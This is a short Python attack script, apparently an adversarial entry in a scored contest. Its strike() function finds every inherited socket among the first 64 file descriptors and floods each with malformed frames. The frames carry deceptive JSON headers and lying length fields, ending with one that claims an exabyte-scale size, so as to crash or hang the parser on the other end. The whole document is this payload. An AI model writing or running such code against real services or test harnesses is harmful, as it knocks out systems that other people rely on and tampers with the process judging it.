# Frames with lengths of exabytes, and with headers that lie.
# may cost points
import json
import os
import stat
import struct

HEADERS = [{"failure": 5}, {"value": {"tensor": "0", "order": [9], "grad": 1}}, [], "x", {"banned": 3}]


def strike():
    for fd in range(64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                for header in HEADERS:
                    head = json.dumps(header).encode()
                    os.write(fd, struct.pack("<IQ", len(head), 0) + head)
                os.write(fd, struct.pack("<IQ", 0xFFFFFFFF, 1 << 60))
        except OSError:
            continue
